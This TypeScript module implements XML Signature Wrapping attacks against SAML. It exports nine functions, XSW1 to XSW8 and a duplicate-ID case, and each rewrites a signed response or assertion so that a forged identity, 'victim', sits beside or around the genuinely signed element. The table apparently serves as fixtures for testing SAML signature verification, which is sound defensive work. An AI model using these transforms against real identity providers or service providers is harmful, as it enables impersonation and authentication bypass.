const partsOf = (xml: string) => {
  const find = (pattern: RegExp, within: string): string => {
    const [found] = pattern.exec(within) ?? [];
    if (found === undefined) throw new Error(`The response has no ${pattern.source}.`);
    return found;
  };
  const assertion = find(/<saml:Assertion.*<\/saml:Assertion>/s, xml);
  const signature = find(/<(?:ds:)?Signature .*<\/(?:ds:)?Signature>/s, assertion);
  const original = assertion.replace(signature, '');
  const evil = original
    .replace(/ ID="[^"]+"/, ' ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, '$1victim');
  return { assertion, signature, original, evil };
};

const inside = (signature: string, content: string): string =>
  signature.replace(
    /<\/((?:ds:)?Signature)>$/,
    `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object></$1>`,
  );

const afterIssuer = (assertion: string, content: string): string =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${content}`);

const asEvilResponse = (xml: string): string =>
  xml.replace(' ID="_response"', ' ID="_evil"').replace(/(<saml:NameID[^>]*>)[^<]*/, '$1victim');

const splitResponse = (xml: string) => {
  const signature = /<(?:ds:)?Signature .*?<\/(?:ds:)?Signature>/s.exec(xml)?.[0] ?? '';
  return { signature, unsigned: xml.replace(signature, '') };
};

/** Signature wrapping as Somorovsky and others describe it (USENIX Security 2012); 1 and 2 wrap a signed response. */
export const wrappings: Readonly<
  Record<string, { signs: 'assertion' | 'response'; tamper: (xml: string) => string }>
> = {
  'XSW1: the signed response in the signature of another': {
    signs: 'response',
    tamper: (xml) => {
      const { signature, unsigned } = splitResponse(xml);
      return asEvilResponse(xml).replace(signature, inside(signature, unsigned));
    },
  },
  'XSW2: the signed response beside its signature in another': {
    signs: 'response',
    tamper: (xml) => {
      const { signature, unsigned } = splitResponse(xml);
      return asEvilResponse(xml).replace(signature, `${unsigned}${signature}`);
    },
  },
  'XSW3: another assertion before the signed one': {
    signs: 'assertion',
    tamper: (xml) => {
      const { assertion, evil } = partsOf(xml);
      return xml.replace(assertion, `${evil}${assertion}`);
    },
  },
  'XSW4: the signed assertion in another': {
    signs: 'assertion',
    tamper: (xml) => {
      const { assertion, evil } = partsOf(xml);
      return xml.replace(assertion, evil.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`));
    },
  },
  'XSW5: the signature in another assertion, before the one it signs': {
    signs: 'assertion',
    tamper: (xml) => {
      const { assertion, signature, original, evil } = partsOf(xml);
      return xml.replace(assertion, `${afterIssuer(evil, signature)}${original}`);
    },
  },
  'XSW6: the signature in another assertion, with the one it signs': {
    signs: 'assertion',
    tamper: (xml) => {
      const { assertion, signature, original, evil } = partsOf(xml);
      const inner = signature.replace(/<\/((?:ds:)?Signature)>$/, `${original}</$1>`);
      return xml.replace(assertion, afterIssuer(evil, inner));
    },
  },
  'XSW7: another assertion in extensions': {
    signs: 'assertion',
    tamper: (xml) => {
      const { assertion, evil } = partsOf(xml);
      return xml.replace(assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`);
    },
  },
  'XSW8: the signed assertion in an object of the signature of another': {
    signs: 'assertion',
    tamper: (xml) => {
      const { assertion, signature, original, evil } = partsOf(xml);
      return xml.replace(assertion, afterIssuer(evil, inside(signature, original)));
    },
  },
  'the same id twice': {
    signs: 'assertion',
    tamper: (xml) => {
      const { assertion, evil } = partsOf(xml);
      return xml.replace(assertion, `${assertion}${evil.replace('_evil', '_assertion')}`);
    },
  },
};
